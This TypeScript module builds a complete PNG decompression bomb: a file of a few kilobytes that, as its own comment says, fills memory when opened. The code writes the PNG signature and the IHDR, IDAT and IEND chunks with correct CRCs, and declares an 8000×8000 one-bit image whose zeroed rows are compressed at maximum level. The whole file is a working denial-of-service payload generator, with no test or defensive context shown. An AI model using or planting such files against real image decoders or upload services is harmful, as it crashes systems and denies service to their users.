import { crc32, deflateSync } from 'node:zlib'

const chunk = (type: string, content: Buffer): Buffer => {
  const named = Buffer.concat([Buffer.from(type), content])
  const [bytes, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  bytes.writeUInt32BE(content.length)
  sum.writeUInt32BE(crc32(named))
  return Buffer.concat([bytes, named, sum])
}

/** A whole PNG of a few kilobytes that fills the memory when it is opened: so many black pixels each way. */
export const pictureBomb = (pixels = 8_000): Buffer => {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(pixels, 0)
  header.writeUInt32BE(pixels, 4)
  // One bit for each pixel, grey.
  header[8] = 1
  const rows = Buffer.alloc(pixels * (Math.ceil(pixels / 8) + 1))
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(rows, { level: 9 })),
    chunk('IEND', Buffer.alloc(0))
  ])
}
